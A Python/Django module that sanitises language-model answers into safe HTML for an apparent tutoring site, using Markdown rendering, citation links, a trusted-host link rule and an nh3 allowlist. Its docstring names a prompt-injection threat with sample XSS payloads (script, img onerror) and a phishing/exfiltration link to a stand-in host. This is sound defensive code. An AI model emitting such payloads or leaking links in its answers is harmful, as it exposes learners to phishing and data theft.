"""Model output → safe HTML: Markdown, citation links, links only where we trust them, then an nh3 allowlist.

A model can be talked into writing ``<script>`` or ``<img onerror=...>`` (by a learner, or by text
it read), so its output is treated as untrusted: Markdown is rendered first (the ``markdown``
package passes raw HTML through) and nh3 then keeps only the tags and attributes below, links only
to http(s) or relative URLs. Citations "[n]" become links to the section the source came from.

A link is also how injected text phishes or leaks data (``[your certificate](https://evil.example/?q=...)``),
so only links to this site stay links: relative URLs, and http(s) URLs whose host is one of
``ALLOWED_HOSTS`` (a leading dot there covers subdomains, as in Django; ``*`` names no host) or
a domain in ``TUTOR_LINK_ALLOWED_DOMAINS`` or a subdomain of one. Any other Markdown link becomes
plain text that keeps its web address visible ("label (https://...)") so nothing the learner might
need is hidden; ``javascript:``, ``data:`` and other non-web addresses are dropped, leaving the
label. Raw HTML ``<a>`` tags are held to the same rule by nh3's attribute filter (a disallowed href
is removed, so the text is no longer a link).
"""

import re
from urllib.parse import urlsplit

import markdown
import nh3
from django.conf import settings
from django.utils.http import is_same_domain
from markdown.extensions import Extension
from markdown.treeprocessors import Treeprocessor

ALLOWED_TAGS = {"p", "br", "strong", "em", "code", "pre", "ul", "ol", "li", "blockquote", "a", "h3", "h4"}
ALLOWED_ATTRIBUTES = {"a": {"href", "title"}}
ALLOWED_SCHEMES = {"http", "https"}  # relative URLs (our citation links) are always kept

# "[2]" that is not already Markdown link text ("[2](...)") nor a reference ("[2][x]").
_CITATION = re.compile(r"\[(\d{1,2})\](?![(\[])")
# What browsers drop from a URL before reading it: tabs and newlines anywhere, controls and spaces at the ends.
_URL_NOISE = re.compile(r"[\t\n\r]")
_URL_EDGES = "".join(chr(code) for code in range(0x21))


def render_answer(text, citations):
    """Sanitised HTML of ``text``, with [n] linked to ``citations`` (dicts with number, url, title, section)."""
    by_number = {citation["number"]: citation for citation in citations}

    def link(match):
        citation = by_number.get(int(match.group(1)))
        if citation is None:
            return match.group(0)
        label = " › ".join(part for part in (citation["title"], citation["section"]) if part)
        title = label.replace('"', "'")
        return f'[\\[{match.group(1)}\\]]({citation["url"]} "{title}")'

    html = markdown.markdown(_CITATION.sub(link, text or ""), output_format="html", extensions=[_TrustedLinks()])
    return sanitise(html)


def sanitise(html):
    return nh3.clean(
        html,
        tags=ALLOWED_TAGS,
        attributes=ALLOWED_ATTRIBUTES,
        attribute_filter=_keep_trusted_href,
        url_schemes=ALLOWED_SCHEMES,
        link_rel="noopener noreferrer",
    )


def is_trusted_link(url):
    """True for a relative URL on this site, or an http(s) URL to one of its hosts or an allowed domain."""
    parts = _split(url)
    if parts is None:
        return False
    if not parts.scheme and not parts.netloc:
        return True  # a path, query or fragment of this site
    if parts.scheme not in ("", "http", "https"):
        return False
    host = (parts.hostname or "").rstrip(".")
    if not host:  # "https:evil.org", "https:///evil.org": browsers find a host there, we do not
        return False
    host = f"[{host}]" if ":" in host else host  # IPv6, written as in ALLOWED_HOSTS
    return any(is_same_domain(host, pattern) for pattern in _trusted_host_patterns())


def _split(url):
    """``url`` parsed as a browser reads it: noise removed, ``\\`` taken for ``/`` (so "/\\evil.org" has a host)."""
    cleaned = _URL_NOISE.sub("", url or "").strip(_URL_EDGES).replace("\\", "/")
    try:
        parts = urlsplit(cleaned)
        parts.port  # noqa: B018 - raises ValueError for a malformed port
    except ValueError:
        return None
    return parts


def _trusted_host_patterns():
    own = [host.lower() for host in settings.ALLOWED_HOSTS if host != "*"]
    allowed = ["." + domain.lower().strip().lstrip(".") for domain in settings.TUTOR_LINK_ALLOWED_DOMAINS if domain]
    return own + allowed


def _keep_trusted_href(element, attribute, value):
    if element == "a" and attribute == "href" and not is_trusted_link(value):
        return None
    return value


class _TrustedLinks(Extension):
    def extendMarkdown(self, md):  # noqa: N802 - the markdown package's name
        md.treeprocessors.register(_UntrustedLinksToText(md), "tutor_trusted_links", 0)


class _UntrustedLinksToText(Treeprocessor):
    """Markdown links to untrusted places become their text (a ``span`` that nh3 unwraps) plus the web address."""

    def run(self, root):
        for anchor in list(root.iter("a")):
            href = anchor.get("href", "")
            if is_trusted_link(href):
                continue
            anchor.tag = "span"
            anchor.attrib.clear()
            parts = _split(href)
            is_web_address = parts is not None and parts.scheme in ("", "http", "https")
            if is_web_address and "".join(anchor.itertext()).strip() != href.strip():
                _append_text(anchor, f" ({href})")


def _append_text(element, text):
    children = list(element)
    if children:
        children[-1].tail = (children[-1].tail or "") + text
    else:
        element.text = (element.text or "") + text
